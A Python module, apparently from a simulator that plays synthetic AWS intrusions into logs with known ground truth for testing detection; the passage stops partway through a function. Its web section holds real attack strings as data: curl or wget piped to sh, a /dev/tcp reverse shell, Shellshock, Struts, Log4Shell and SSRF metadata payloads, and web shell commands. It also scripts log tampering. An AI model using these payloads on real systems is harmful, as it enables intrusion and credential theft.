"""Incidents with the truth known. Each function plays one kind of incident into a world and tells what is true."""
from calm import CONSOLE_READS, TERRAFORM, console_day, cli_day, lambdas, web_traffic, ssh_noise, flow_noise
from world import BROWSERS, CLIS, CLOUD, DAY, HOMES, HOSTING, HOUR, OFFICES, SDKS, Person, Role, Session, Truth, rfc3339

THIEVES = ('Boto3/1.26.165 md/Botocore#1.29.165 ua/2.0 os/linux#6.3.0-kali1-cloud-amd64 md/arch#x86_64 lang/python#3.11.2',
           'aws-cli/2.12.1 Python/3.11.4 Linux/5.15.0-1033-generic exe/x86_64.ubuntu.20 prompt/off command/{}',
           'S3 Browser/11.6.7 (https://s3browser.com)', 'python-requests/2.31.0', 'Boto3/1.18.12 Python/3.9.2 Windows/10 Botocore/1.21.12',
           'aws-sdk-go/1.44.1 (go1.18; linux; amd64)', 'TruffleHog', 'aws-cli/1.22.34 Python/3.10.6 Linux/5.15.0-76-generic botocore/1.23.34')
RECON = [('sts', 'GetCallerIdentity'), ('s3', 'ListBuckets'), ('iam', 'ListUsers'), ('iam', 'ListRoles'), ('iam', 'GetUser'),
         ('iam', 'ListAttachedUserPolicies'), ('ec2', 'DescribeInstances'), ('ec2', 'DescribeRegions'), ('secretsmanager', 'ListSecrets'),
         ('lambda', 'ListFunctions20150331'), ('rds', 'DescribeDBInstances'), ('organizations', 'DescribeOrganization'),
         ('ses', 'GetAccount'), ('servicequotas', 'ListServiceQuotas'), ('kms', 'ListKeys'), ('ssm', 'DescribeParameters')]
FOREIGN = '610987654321'


class Hand:
    """Whoever holds a stolen credential: where they sit, what they type with; everything done is marked and remembered."""

    def __init__(self, w, truth, who, ip, agent):
        self.w, self.truth, self.who, self.ip, self.agent = w, truth, who, ip, agent
        self.t = None
        self.own(who)

    def own(self, who):
        d = who if isinstance(who, dict) else who.who()
        if d.get('arn'):
            self.truth.principals.add(d['arn'])
        if d.get('accessKeyId'):
            self.truth.keys.add(d['accessKeyId'])
        self.truth.ips.add(self.ip)

    def do(self, service, name, req=None, resp=None, err=None, wait=(2, 40), **more):
        r = self.w.rng
        if self.truth.entry is None:
            self.truth.entry = self.t
        ip = self.ip
        if isinstance(ip, list):
            ip = r.choice(ip)
        e = self.w.call(self.t, self.who, ip, self.agent, service, name, req, resp, err=err, bad=True, **more)
        self.t += r.randrange(*wait)
        return e

    def look(self, n=9, refused=.4, wait=(1, 5)):
        r = self.w.rng
        todo = RECON[:1] * (r.random() < .8) + r.sample(RECON[1:], min(n, len(RECON) - 1))
        for service, name in todo:
            self.do(service, name, err=(r.random() < refused and name != 'GetCallerIdentity') or None, wait=wait)

    def read(self, n, size=10 ** 6):
        r = self.w.rng
        bucket = r.choice(self.w.buckets)
        for _ in range(n):
            if self.truth.entry is None:
                self.truth.entry = self.t
            self.w.read_object(self.t, self.who, self.ip, self.agent, bucket, f'{self.w.hex(3)}/{self.w.hex(7)}', r.randrange(size), bad=True)
            self.t += r.randrange(1, 4)

    def secrets(self, n=5):
        for i in range(n):
            self.do('secretsmanager', 'GetSecretValue', {'secretId': f'prod/{self.w.hex(4)}'})

    def persist(self):
        """A user of one's own, with a key and full rights; the key is used from the same place."""
        w, r = self.w, self.w.rng
        name, key = r.choice(['support', 'aws-backup-svc', 'DangerDev', 'ses-xyz', 'dev']) + w.hex(2), w.new_key('AKIA')
        made = Person(w, name)
        made.arn, made.key = f'arn:aws:iam::{w.account}:user/{name}', key
        self.do('iam', 'CreateUser', {'userName': name}, {'user': {'userName': name, 'arn': made.arn, 'userId': made.id}})
        self.do('iam', 'AttachUserPolicy', {'userName': name, 'policyArn': 'arn:aws:iam::aws:policy/AdministratorAccess'})
        self.do('iam', 'CreateAccessKey', {'userName': name}, {'accessKey': {'accessKeyId': key, 'status': 'Active', 'userName': name}})
        self.truth.keys.add(key)
        self.truth.may.add(made.arn)
        if r.random() < .6:
            ip = self.ip if r.random() < .6 else w.address(HOSTING)
            self.w.call(self.t, made, ip, self.agent, 'sts', 'GetCallerIdentity', bad=True)
            for service, act in r.sample(RECON, 4):
                self.t += r.randrange(1, 9)
                self.w.call(self.t, made, ip, self.agent, service, act, bad=True)
            self.truth.principals.add(made.arn)
            self.truth.ips.add(ip)
        return made

    def blind(self):
        r = self.w.rng
        deeds = [('cloudtrail', 'StopLogging', {'name': 'main'}), ('cloudtrail', 'DeleteTrail', {'name': 'main'}),
                 ('cloudtrail', 'UpdateTrail', {'name': 'main', 's3BucketName': 'other', 'isMultiRegionTrail': False}),
                 ('cloudtrail', 'PutEventSelectors', {'trailName': 'main', 'eventSelectors': [{'includeManagementEvents': False}]}),
                 ('guardduty', 'DeleteDetector', {'detectorId': self.w.hex(32)}), ('guardduty', 'UpdateDetector', {'detectorId': self.w.hex(32), 'enable': False}),
                 ('ec2', 'DeleteFlowLogs', {'DeleteFlowLogsRequest': {'FlowLogId': {'tag': 1, 'content': 'fl-' + self.w.hex(17)}}})]
        for service, name, req in r.sample(deeds, r.randrange(1, 3)):
            self.do(service, name, req, err=r.random() < .3 or None)

    def rob(self):
        """One to three of the things thieves do."""
        r, w = self.w.rng, self.w
        deeds = {
            'read': lambda: self.read(r.randrange(20, 200)),
            'secrets': lambda: self.secrets(r.randrange(3, 12)),
            'persist': self.persist,
            'blind': self.blind,
            'mine': lambda: [self.do('ec2', 'RunInstances', {'instanceType': r.choice(['g4dn.12xlarge', 'p3.16xlarge', 'c5.24xlarge']), 'maxCount': 10}, {},
                                     region=reg) for reg in r.sample(['us-east-1', 'us-west-2', 'eu-west-2', 'ap-south-1'], 3)],
            'snapshot': lambda: (self.do('ec2', 'CreateSnapshot', {'volumeId': 'vol-' + w.hex(17)}, {}),
                                 self.do('ec2', 'ModifySnapshotAttribute', {'snapshotId': 'snap-' + w.hex(17), 'attributeType': 'CREATE_VOLUME_PERMISSION',
                                                                            'createVolumePermission': {'add': {'items': [{'userId': FOREIGN}]}}})),
            'ransom': lambda: (self.read(20), [self.do('s3', 'DeleteObject', {'bucketName': w.buckets[0], 'key': w.hex(6)}, data=True) for _ in range(30)]),
            'mail': lambda: [self.do('ses', n) for n in ('GetSendQuota', 'ListIdentities', 'GetAccount', 'UpdateAccountSendingEnabled', 'VerifyEmailIdentity')],
            'model': lambda: [self.do('bedrock', n, {'modelId': 'anthropic.claude-v2'}) for n in ['ListFoundationModels', 'GetFoundationModelAvailability'] + ['InvokeModel'] * 12],
        }
        for name in r.sample(sorted(deeds), r.randrange(1, 4)):
            deeds[name]()


def hiding_place(w):
    return w.address(w.rng.choice([HOSTING, HOSTING, CLOUD, HOMES]))


def moment(w, low=.4, high=.85):
    return w.start + int(w.days * DAY * w.rng.uniform(low, high))


def alarm(w, h, p):
    if w.rng.random() < .5:
        w.finding(h.t, w.rng.choice(['UnauthorizedAccess:IAMUser/MaliciousIPCaller', 'Discovery:IAMUser/AnomalousBehavior', 'UnauthorizedAccess:IAMUser/TorIPCaller']),
                  {'resourceType': 'AccessKey', 'accessKeyDetails': {'accessKeyId': h.who.who()['accessKeyId'], 'principalId': p.id, 'userName': p.name, 'userType': 'IAMUser'}}, h.ip)


# ---- leaked long-term keys
def key_at_work(w, truth=None):
    """The owner works on at home while somebody else uses the same key elsewhere."""
    r, truth = w.rng, truth or Truth('leaked_access_key')
    p = r.choice(w.staff)
    for day in range(w.days):
        cli_day(w, p, day)
        cli_day(w, p, day)
    h = Hand(w, truth, p, hiding_place(w), r.choice(THIEVES + (p.agent,)))
    h.t = moment(w)
    h.look(r.randrange(5, 12))
    h.rob()
    alarm(w, h, p)
    return truth, h


def key_leaked(w):
    truth, _ = key_at_work(w)
    truth.cuts = ['cloudtrail']
    return truth


def key_forgotten(w):
    """A key that nobody has used for long; only the thief does."""
    r, truth = w.rng, Truth('leaked_access_key')
    p = Person(w, r.choice(['svc-legacy', 'old-backup', 'test-user']), False)
    h = Hand(w, truth, p, hiding_place(w), r.choice(THIEVES))
    h.t = moment(w)
    h.look(12, .6)
    h.persist()
    h.rob()
    alarm(w, h, p)
    truth.cuts = ['cloudtrail']
    return truth


def key_refused(w):
    """The thief finds every door shut."""
    r, truth = w.rng, Truth('leaked_access_key')
    p = r.choice(w.staff)
    for day in range(w.days):
        cli_day(w, p, day)
    h = Hand(w, truth, p, hiding_place(w), r.choice(THIEVES))
    h.t = moment(w)
    h.look(14, .9)
    alarm(w, h, p)
    truth.cuts = ['cloudtrail']
    return truth


def key_chained(w):
    """Into a role, and from that into another account's."""
    r = w.rng
    truth, h = key_at_work(w)
    role = Role(w, r.choice(['OrganizationAccountAccessRole', 'admin', 'ops-admin']))
    name = r.choice(['test', 'botocore-session-17', 'aws-cli-session'])
    s = w.assume(h.t, h.who, h.ip, h.agent, role, name, bad=True)
    two = Hand(w, truth, s, h.ip, h.agent)
    two.t = h.t + 20
    two.look(6, .1)
    two.rob()
    if r.random() < .5:
        other = ''.join(r.choice('123456789') for _ in range(12))
        far = Role(w, 'deploy', account=other)
        far_s = w.assume(two.t, s, h.ip, h.agent, far, 'x', bad=True)
        seen = w.call(two.t, {'type': 'AWSAccount', 'principalId': f'{role.id}:{name}', 'accountId': w.account}, h.ip, h.agent, 'sts', 'AssumeRole',
                      {'roleArn': far.arn, 'roleSessionName': 'x'}, {'credentials': {'accessKeyId': far_s.key, 'sessionToken': 'x'},
                                                                   'assumedRoleUser': {'arn': far_s.arn}}, bad=True)
        seen['recipientAccountId'] = other
        three = Hand(w, truth, far_s, h.ip, h.agent)
        three.t = two.t + 15
        three.look(5, .2)
        three.read(15)
    truth.cuts = ['cloudtrail']
    return truth


def key_to_console(w):
    """A federation token and a sign-in token: a key becomes a browser session. Or GetSessionToken first."""
    r = w.rng
    truth, h = key_at_work(w)
    p = h.who
    key = w.new_key('ASIA')
    if r.random() < .5:
        h.do('sts', 'GetSessionToken', {'durationSeconds': 3600}, {'credentials': {'accessKeyId': key, 'sessionToken': 'x'}})
        s = Session(w, h.t, person=p, key=key)
    else:
        h.do('sts', 'GetFederationToken', {'name': 'x', 'policy': '{}'}, {'credentials': {'accessKeyId': key, 'sessionToken': 'x'},
                                                                     'federatedUser': {'arn': f'arn:aws:sts::{w.account}:federated-user/x'}})
        s = {'type': 'FederatedUser', 'principalId': f'{w.account}:x', 'arn': f'arn:aws:sts::{w.account}:federated-user/x', 'accountId': w.account,
             'accessKeyId': key, 'sessionContext': {'sessionIssuer': {'type': 'IAMUser', 'principalId': p.id, 'arn': p.arn, 'accountId': w.account, 'userName': p.name},
                                                    'attributes': {'creationDate': rfc3339(h.t), 'mfaAuthenticated': 'false'}}}
        w.call(h.t, s, h.ip, h.agent, 'signin', 'GetSigninToken', None, {'GetSigninToken': 'Success'}, bad=True)
    two = Hand(w, truth, s, h.ip, r.choice(BROWSERS))
    two.t = h.t + 30
    two.look(8, .2)
    two.rob()
    truth.cuts = ['cloudtrail']
    return truth


def key_password(w):
    """The thief gives a user a console password and signs in as that user."""
    r = w.rng
    truth, h = key_at_work(w)
    q = r.choice([p for p in w.staff if p is not h.who])
    h.do('iam', r.choice(['CreateLoginProfile', 'UpdateLoginProfile']), {'userName': q.name}, {})
    ip = h.ip if r.random() < .6 else w.address(HOSTING)
    t = h.t + r.randrange(60, 900)
    w.login(t, q, ip, BROWSERS[1], bad=True)
    two = Hand(w, truth, Session(w, t, person=q, console=True), ip, BROWSERS[1])
    two.t = t + 10
    two.look(9, .1)
    two.rob()
    truth.principals.add(q.arn)
    truth.cuts = ['cloudtrail']
    return truth


def key_slow(w):
    """A call now and then over days, from one Tor exit after the other."""
    r, truth = w.rng, Truth('leaked_access_key')
    p = r.choice(w.staff)
    for day in range(w.days):
        cli_day(w, p, day)
    exits = [w.v4(['185.220.100.0/22']) for _ in range(4)]
    t = moment(w, .2, .3)
    agent = r.choice(THIEVES)
    h = None
    for i, ip in enumerate(exits):
        h = Hand(w, truth, p, ip, agent)
        h.t = t + i * 5 * HOUR
        h.look(5, .3, (60, 600))
        if i == 1:
            h.persist()
        if i > 1:
            h.secrets(4)
            h.read(10)
    truth.cuts = ['cloudtrail']
    return truth


def key_root(w):
    r, truth = w.rng, Truth('leaked_access_key')
    key = w.new_key('AKIA')
    who = {'type': 'Root', 'principalId': w.account, 'arn': f'arn:aws:iam::{w.account}:root', 'accountId': w.account, 'accessKeyId': key}
    h = Hand(w, truth, who, hiding_place(w), r.choice(THIEVES))
    h.t = moment(w)
    h.look(10, 0)
    h.persist()
    h.rob()
    truth.cuts = ['cloudtrail']
    return truth


def key_quarantined(w):
    """Published by mistake: AWS attaches its quarantine policy."""
    r = w.rng
    truth, h = key_at_work(w)
    p = h.who
    who = {'type': 'AWSService', 'invokedBy': 'iam.amazonaws.com'} if r.random() < .3 else {'type': 'Root', 'principalId': w.account, 'arn': f'arn:aws:iam::{w.account}:root', 'accountId': w.account, 'accessKeyId': '', 'invokedBy': 'AWS Internal'}
    w.call(truth.entry - r.randrange(60, 600), who, 'AWS Internal', 'AWS Internal', 'iam', 'AttachUserPolicy', {'userName': p.name, 'policyArn': 'arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV2'})
    truth.cuts = ['cloudtrail']
    return truth


# ---- credentials of machines
def off_host(w, truth, m, ip, agent, t, delivery=None):
    s = m.session(t)
    s = Session(w, s.t, m.role, m.id, delivery=delivery or m.delivery, key=s.key)
    h = Hand(w, truth, s, ip, agent)
    h.t = t
    h.look(w.rng.randrange(4, 10), .4)
    h.rob()
    return h


def role_stolen(w):
    """Used off the instance; how it got out is not in the logs."""
    r, truth = w.rng, Truth('instance_credential_theft')
    m = r.choice(w.machines)
    ip = w.address(r.choice([HOSTING, CLOUD]))
    h = off_host(w, truth, m, ip, r.choice(THIEVES), moment(w), '1.0' if r.random() < .5 else None)
    if r.random() < .5:
        w.finding(h.t, 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.' + r.choice(['OutsideAWS', 'InsideAWS']),
                  {'resourceType': 'AccessKey', 'accessKeyDetails': {'accessKeyId': h.who.key, 'principalId': f'{m.role.id}:{m.id}', 'userName': m.role.name, 'userType': 'AssumedRole'},
                   'instanceDetails': {'instanceId': m.id}}, ip)
    truth.cuts = ['cloudtrail']
    return truth


def role_endpoint(w):
    """Used from another VPC, through an endpoint there: the address is a private one."""
    r, truth = w.rng, Truth('instance_credential_theft')
    m = r.choice(w.machines)
    h = Hand(w, truth, m.session(moment(w)), f'172.31.{r.randrange(250)}.{r.randrange(4, 250)}', r.choice(THIEVES))
    h.t = moment(w)
    h.who = m.session(h.t)
    h.own(h.who)
    truth.keys = {h.who.key}
    vpce = {'vpcEndpointId': 'vpce-' + w.hex(17), 'vpcEndpointAccountId': FOREIGN}
    for service, name in r.sample(RECON, 9):
        h.do(service, name, err=r.random() < .4 or None, top=vpce)
    for _ in range(60):
        w.read_object(h.t, h.who, h.ip, h.agent, w.buckets[0], w.hex(9), 10 ** 6, bad=True, top=vpce)
        h.t += 2
    truth.cuts = ['cloudtrail']
    return truth


def function_stolen(w):
    """A function's environment leaks: its session is used from outside."""
    r, truth = w.rng, Truth('instance_credential_theft')
    role = lambdas(w)
    t = moment(w)
    s = w.assume(t - 600, {'type': 'AWSService', 'invokedBy': 'lambda.amazonaws.com'}, 'lambda.amazonaws.com', 'lambda.amazonaws.com', role, 'thumbnailer')
    usual = 'Boto3/1.34.42 md/Botocore#1.34.42 ua/2.0 os/linux#5.10.210 lang/python#3.12 exec-env/AWS_Lambda_python3.12'
    ip = w.v4(CLOUD)
    for i in range(8):
        w.read_object(t - 500 + i * 100, s, ip, usual, w.buckets[1], f'u/{w.hex(6)}.png', 30000)
    h = Hand(w, truth, s, w.address(HOSTING), r.choice(THIEVES[:2] + THIEVES[3:6]))
    h.t = t
    h.look(10, .5)
    h.secrets(4)
    h.rob()
    truth.cuts = ['cloudtrail']
    return truth


# ---- console
def console(w, truth, p, ip, t, mfa=False):
    w.login(t, p, ip, BROWSERS[2], mfa=mfa, bad=True)
    h = Hand(w, truth, Session(w, t, person=p, mfa=mfa, console=True), ip, BROWSERS[2])
    h.t = t + 15
    h.look(10, .2)
    h.rob()
    return h


def password_guessed(w):
    r, truth = w.rng, Truth('console_password')
    p = r.choice(w.staff)
    p.mfa = False
    ip, t = hiding_place(w), moment(w)
    n = r.randrange(5, 40)
    for i in range(n):
        w.login(t - (n - i) * r.randrange(5, 20), p, ip, BROWSERS[2], ok=False, bad=True, hidden=r.random() < .2)
    console(w, truth, p, ip, t)
    truth.entry, truth.slack = t, 1200
    truth.cuts = ['cloudtrail']
    return truth


def password_sprayed(w):
    r, truth = w.rng, Truth('console_password')
    p = r.choice(w.staff)
    p.mfa = False
    ip, t = w.address(HOSTING), moment(w)
    for i in range(r.randrange(12, 60)):
        q = r.choice(w.staff)
        w.login(t - 2000 + i * 25, q, ip, BROWSERS[2], ok=False, bad=True, hidden=r.random() < .4)
    console(w, truth, p, ip, t)
    truth.entry, truth.slack = t, 2100
    truth.cuts = ['cloudtrail']
    return truth


def password_known(w):
    """No guessing: a phished password, used without MFA from a place the user never was."""
    r, truth = w.rng, Truth('console_password')
    p = r.choice(w.staff)
    p.mfa = False
    for day in range(w.days):
        console_day(w, p, day)
    h = console(w, truth, p, w.address(HOSTING), moment(w))
    h.persist()
    truth.entry = min(truth.entry, h.who.t)
    truth.cuts = ['cloudtrail']
    return truth


# ---- web
EXPLOITS = {
    'command': [('GET', '/cgi-bin/status?host=127.0.0.1;curl%20http://{c}/x.sh%7Csh', 200), ('POST', '/api/ping?addr=%7Cwget%20http://{c}/m%20-O-%7Csh', 500),
                ('GET', '/ping.php?ip=8.8.8.8%26%26bash%20-i%20%3E%26%20/dev/tcp/{c}/4444%200%3E%261', 200)],
    'spring': [('POST', '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di', 200)],
    'struts': [('GET', '/orders/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/actionChain1.action', 302),
               ('POST', '/struts2-showcase/index.action?redirect:${%23context[%22xwork.MethodAccessor.denyMethodExecution%22]=false}', 200)],
    'confluence': [('GET', '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/', 302)],
    'phpcgi': [('POST', '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', 200)],
    'phpunit': [('POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 200)],
    'thinkphp': [('GET', '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', 200)],
    'apache': [('POST', '/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh', 200)],
    'shellshock': [('GET', '/cgi-bin/stats', 200)],
    'f5': [('POST', '/mgmt/tm/util/bash', 200)],
    'deserialize': [('POST', '/invoker/JMXInvokerServlet', 200)],
}


def fallout(w, truth, m, c2, t, kinds=None):
    """What shows that the host fell: a call back, a finding, both."""
    r = w.rng
    kinds = kinds or r.choice([('flow',), ('finding',), ('flow', 'finding')])
    if 'flow' in kinds:
        w.both_ways(t + r.randrange(1, 50), m.private, c2, r.randrange(32768, 60000), r.choice([4444, 1337, 9001, 8443, 443, 53211]), 400, 90000, 40000, eni=m.eni)
    if 'finding' in kinds:
        w.finding(t + r.randrange(20, 200), r.choice(['Execution:Runtime/ReverseShell', 'Backdoor:EC2/C&CActivity.B', 'CryptoCurrency:EC2/BitcoinTool.B']),
                  {'resourceType': 'Instance', 'instanceDetails': {'instanceId': m.id, 'networkInterfaces': [{'networkInterfaceId': m.eni, 'privateIpAddress': m.private}]}},
                  severity=8, role='ACTOR', action={'actionType': 'NETWORK_CONNECTION', 'networkConnectionAction': {'connectionDirection': 'OUTBOUND', 'protocol': 'TCP',
                                                    'remoteIpDetails': {'ipAddressV4': c2}, 'remotePortDetails': {'port': 4444}, 'localPortDetails': {'port': 40001}}})
    return kinds


def web_base(w, flows=True):
    if not w.web:
        web_traffic(w)
    if flows and not w.flows:
        flow_noise(w)
    return w.machines[0]


def web_command(w):
    """Code execution of many makes, proved by what the host does next."""
    r, truth = w.rng, Truth('web_exploitation')
    m = web_base(w)
    ip = w.v4(HOSTING)
    c2 = ip if r.random() < .5 else w.v4(HOSTING)
    t = moment(w)
    kind = r.choice(sorted(EXPLOITS))
    for i in range(r.randrange(0, 9)):
        w.visit(t - 400 + i * 11, ip, 'GET', r.choice(['/.env', '/admin', '/wp-login.php', '/old']), 404, 153, 'python-requests/2.28.1', bad=True)
    method, target, status = r.choice(EXPLOITS[kind])
    agent = '() { :; }; /bin/bash -c "wget http://%s/a -O /tmp/a; sh /tmp/a"' % c2 if kind == 'shellshock' else r.choice(['Mozilla/5.0', 'curl/7.88.1', 'python-requests/2.28.1'])
    truth.entry = t
    w.visit(t, ip, method, target.replace('{c}', c2), status, r.randrange(20, 90000), agent.replace('"', '\\"'), bad=True)
    kinds = fallout(w, truth, m, c2, t)
    truth.ips.add(ip)
    truth.may.add(c2)
    if r.random() < .5:
        off_host(w, truth, m, ip if r.random() < .6 else w.address(HOSTING), r.choice(THIEVES), t + r.randrange(60, 3000))
        truth.entry = t
    elif kinds == ('flow',) and kind in ('f5', 'deserialize'):
        truth.also = {'undetermined'}
    truth.cuts = ['web']
    return truth


def web_log4shell(w):
    r, truth = w.rng, Truth('web_exploitation')
    m = web_base(w)
    ip, c2, t = w.v4(HOSTING), w.v4(HOSTING), moment(w)
    port = r.choice([1389, 389, 1099, 8085])
    truth.entry = t
    payload = r.choice(['${jndi:ldap://%s:%d/a}', '${${lower:j}ndi:${lower:l}dap://%s:%d/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://%s:%d/x}']) % (c2, port)
    if r.random() < .5:
        w.visit(t, ip, 'GET', '/login', 200, 4101, payload, bad=True)
    else:
        w.visit(t, ip, 'GET', '/search?q=' + payload.replace('{', '%7B').replace('}', '%7D'), r.choice([200, 400, 500]), 999, 'curl/7.79', bad=True)
    w.both_ways(t + 3, m.private, c2, r.randrange(32768, 60000), port, 8, 900, 1200, eni=m.eni)
    fallout(w, truth, m, c2, t + 20, ('flow', 'finding') if r.random() < .4 else ('flow',))
    truth.ips.add(ip)
    truth.may.add(c2)
    if r.random() < .4:
        off_host(w, truth, m, ip, r.choice(THIEVES), t + r.randrange(60, 3000))
        truth.entry = t
    truth.cuts = ['web']
    return truth


def web_ssrf(w):
    """The server is made to ask the metadata service; the role's keys are used elsewhere soon after."""
    r, truth = w.rng, Truth('web_exploitation')
    m = web_base(w, r.random() < .5)
    ip, t = w.v4(HOSTING), moment(w)
    m.delivery = m.delivery if r.random() < .3 else '2.0'
    base = r.choice(['/proxy?url=http://{}/latest/meta-data/iam/security-credentials/', '/fetch?u=http%3A%2F%2F{}%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F',
                     '/api/webhook/test?target=http://{}/latest/meta-data/iam/security-credentials/'])
    host = r.choice(['169.254.169.254', '169.254.169.254', '[::ffff:a9fe:a9fe]', '2852039166', '0xA9FEA9FE'])
    truth.entry = t
    w.visit(t, ip, 'GET', base.format(host), 200, len(m.role.name), 'curl/8.1', bad=True)
    named = r.random() < .8
    w.visit(t + 6, ip, 'GET', base.format(host) + (m.role.name if named else ''), 200, 1324, 'curl/8.1', bad=True)
    off_host(w, truth, m, ip if r.random() < .4 else w.address(HOSTING), r.choice(THIEVES), t + r.randrange(30, 5000), '1.0')
    truth.entry = t
    truth.ips.add(ip)
    truth.cuts = ['web']
    return truth


def web_shell(w):
    r, truth = w.rng, Truth('web_exploitation')
    m = web_base(w)
    ip, t = w.v4(HOSTING), moment(w)
    name = r.choice(['/uploads/img_{}.php', '/files/{}.jsp', '/wp-content/uploads/2024/{}.php', '/images/{}.aspx']).format(w.hex(5))
    truth.entry = t
    w.visit(t, ip, 'POST', r.choice(['/upload.php', '/wp-admin/async-upload.php', '/api/files']), 200, 44, 'Mozilla/5.0', bad=True)
    for i, cmd in enumerate(['id', 'uname%20-a', 'cat%20/etc/passwd', 'curl%20http://' + ip + '/l.sh%7Csh']):
        w.visit(t + 20 + i * 9, ip, 'GET', f'{name}?{r.choice(["cmd", "c", "x", "exec"])}={cmd}', 200, r.randrange(20, 3000), 'Mozilla/5.0', bad=True)
    truth.slack = 120
    fallout(w, truth, m, ip, t + 50)
    truth.ips.add(ip)
    truth.cuts = ['web']
    return truth


def web_files(w):
    """A path traversal hands out a key file; the key is used from the same address."""
    r, truth = w.rng, Truth('web_exploitation')
    web_base(w, False)
    p = r.choice(w.staff)
    for day in range(w.days):
        cli_day(w, p, day)
    ip, t = w.v4(HOSTING), moment(w)
    truth.entry = t
    w.visit(t, ip, 'GET', '/download?f=../../../../home/app/.aws/credentials', 200, 116, 'curl/8.1', bad=True)
    h = Hand(w, truth, p, ip, r.choice(THIEVES))
    h.t = t + r.randrange(60, 4000)
    h.look(9)
    h.rob()
    truth.cuts = ['web']
    return truth


# ---- ssh
def ssh_guessed(w):
    r, truth = w.rng, Truth('ssh_bruteforce')
    if not w.ssh:
        ssh_noise(w)
    m = r.choice(w.machines)
    ip, t, u = w.v4(HOSTING), moment(w), r.choice(['ubuntu', 'admin', 'deploy', 'root', 'oracle'])
    n, pid = r.randrange(20, 400), r.randrange(1000, 30000)
    begin = t - n * 4
    for i in range(n):
        name = u if r.random() < .5 else r.choice(['root', 'test', 'admin', 'ubuntu', 'pi', 'guest'])
        w.auth(begin + i * 4, m.host, f'sshd[{pid + i}]', f'Failed password for {name} from {ip} port {30000 + i} ssh2', bad=True)
        if w.flows and i % 8 == 0:
            w.both_ways(begin + i * 4, ip, m.private, 30000 + i, 22, 14, 2100, 2400, eni=m.eni)
    w.auth(t, m.host, f'sshd[{pid + n}]', f'Accepted password for {u} from {ip} port {30000 + n} ssh2', bad=True)
    w.auth(t, m.host, f'sshd[{pid + n}]', f'pam_unix(sshd:session): session opened for user {u}(uid=1001) by (uid=0)')
    if w.flows:
        w.both_ways(t, ip, m.private, 30000 + n, 22, 900, 120000, 250000, eni=m.eni, seconds=600)
    if r.random() < .7:
        w.auth(t + 60, m.host, 'sudo', f'    {u} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/k http://{ip}/k', bad=True)
        w.auth(t + 70, m.host, 'useradd[4411]', 'new user: name=sysd, UID=1002, GID=1002, home=/home/sysd, shell=/bin/bash, from=/dev/pts/1', bad=True)
    truth.ips.add(ip)
    truth.entry, truth.slack = t, n * 4 + 10
    if r.random() < .4:
        off_host(w, truth, m, ip if r.random() < .5 else w.address(HOSTING), r.choice(THIEVES), t + r.randrange(120, 3000))
        truth.entry = t
    if r.random() < .5:
        w.finding(begin, 'UnauthorizedAccess:EC2/SSHBruteForce', {'resourceType': 'Instance', 'instanceDetails': {'instanceId': m.id}}, severity=2,
                  action={'actionType': 'NETWORK_CONNECTION', 'networkConnectionAction': {'connectionDirection': 'INBOUND', 'protocol': 'TCP', 'localPortDetails': {'port': 22},
                                                                                       'remoteIpDetails': {'ipAddressV4': ip}}})
    truth.cuts = ['ssh']
    return truth


# ---- open to all
def bucket_public(w):
    r, truth = w.rng, Truth('public_exposure')
    p, t, bucket = r.choice(w.staff), moment(w, .2, .5), w.buckets[3]
    if r.random() < .5:
        w.call(t - 20, p, p.place, p.agent, 's3', r.choice(['DeleteBucketPublicAccessBlock', 'PutBucketPublicAccessBlock']),
               {'bucketName': bucket, 'PublicAccessBlockConfiguration': {'BlockPublicAcls': False, 'BlockPublicPolicy': False}, 'publicAccessBlock': ''})
    if r.random() < .6:
        w.call(t, p, p.place, p.agent, 's3', 'PutBucketPolicy', {'bucketName': bucket, 'bucketPolicy': {'Version': '2012-10-17', 'Statement': [
            {'Sid': 'x', 'Effect': 'Allow', 'Principal': '*', 'Action': ['s3:GetObject', 's3:ListBucket'], 'Resource': f'arn:aws:s3:::{bucket}/*'}]}})
    else:
        w.call(t, p, p.place, p.agent, 's3', 'PutBucketAcl', {'bucketName': bucket, 'AccessControlPolicy': {'AccessControlList': {'Grant': [
            {'Grantee': {'xsi:type': 'Group', 'URI': 'http://acs.amazonaws.com/groups/global/AllUsers'}, 'Permission': 'READ'}]}}})
    truth.entry, truth.slack = t, 60
    who = {'type': 'AWSAccount', 'principalId': '', 'accountId': r.choice(['ANONYMOUS_PRINCIPAL', 'anonymous'])}
    for _ in range(r.randrange(1, 5)):
        ip, u = w.address(HOSTING + HOMES), t + r.randrange(HOUR, 9 * HOUR)
        agent = r.choice(['curl/8.4.0', 'Mozilla/5.0 (compatible; GrayHatWarfare)', 'Go-http-client/1.1', BROWSERS[0]])
        w.call(u, who, ip, f'[{agent}]', 's3', 'ListObjects', {'bucketName': bucket}, data=True, bad=True)
        for i in range(r.randrange(3, 60)):
            w.read_object(u + 2 + i, who, ip, agent, bucket, f'{w.hex(4)}.csv', r.randrange(10 ** 6), bad=True)
        truth.may.add(ip)
    truth.may |= {p.arn, p.key, p.place}
    truth.cuts = ['cloudtrail']
    return truth


def snapshot_public(w):
    """A volume or database snapshot for everybody, and somebody else's account that takes a copy."""
    r, truth = w.rng, Truth('public_exposure')
    p, t = r.choice(w.staff), moment(w, .2, .6)
    truth.entry = t
    if r.random() < .5:
        snap = 'snap-' + w.hex(17)
        w.call(t, p, p.place, p.agent, 'ec2', 'ModifySnapshotAttribute', {'snapshotId': snap, 'attributeType': 'CREATE_VOLUME_PERMISSION',
                                                                     'createVolumePermission': {'add': {'items': [{'group': 'all'}]}}}, {'_return': True})
